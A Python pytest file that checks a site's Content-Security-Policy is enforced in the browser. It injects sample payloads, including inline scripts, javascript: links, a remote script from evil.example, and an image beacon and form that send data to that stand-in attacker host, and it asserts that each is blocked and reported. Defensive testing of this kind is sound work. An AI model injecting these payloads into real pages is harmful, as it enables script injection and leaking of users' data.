"""The Content-Security-Policy is not only sent: the browser enforces it on our pages."""

import pytest

pytestmark = pytest.mark.browser

# What an attacker gets into a page somehow, and what the browser says of it.
INJECTIONS = {
    "an inline script": (
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
        "script-src-elem forbids inline",
    ),
    "an inline handler": (
        "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
        "script-src-attr forbids inline",
    ),
    "a link to a script": (
        "Object.assign(document.createElement('a'), {href: 'javascript:window.ran = true'}).click()",
        "script-src-elem forbids inline",
    ),
    "a script of another site": (
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "script-src-elem forbids https://evil.example/x.js",
    ),
    "an inline style": (
        "document.body.setAttribute('style', 'opacity: 0.5'); window.ran = document.body.style.opacity || undefined",
        "style-src-attr forbids inline",
    ),
    "a picture that tells another site": (
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?secret'}))",
        "img-src forbids https://evil.example/?secret",
    ),
    "a frame": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
        "frame-src forbids https://evil.example",
    ),
    "a form to another site": (
        "document.body.innerHTML = '<form action=https://evil.example/>'; document.forms[0].submit()",
        "form-action forbids https://evil.example/?",
    ),
}


WAIT_FOR_REPORT = """() => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) =>
        resolve(`${event.effectiveDirective} forbids ${event.blockedURI}`));
    setTimeout(() => resolve("nothing was forbidden"), 2000);
    %s
})"""


@pytest.fixture
def page(browser, site):
    """A page that nobody watches, for what others complain of is provoked here."""
    context = browser.new_context(base_url=site)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("injection", INJECTIONS)
def test_what_is_injected_into_a_page_does_not_run_and_is_reported(page, injection):
    script, report = INJECTIONS[injection]
    page.goto("/")
    assert page.evaluate(WAIT_FOR_REPORT % script) == report
    assert page.evaluate("window.ran") is None


def test_what_carries_the_nonce_of_the_page_runs(page):
    page.goto("/")
    page.evaluate(
        "() => document.body.append(Object.assign(document.createElement('script'), {"
        "nonce: document.querySelector('script').nonce, text: 'window.ran = true'}))"
    )
    assert page.evaluate("window.ran") is True
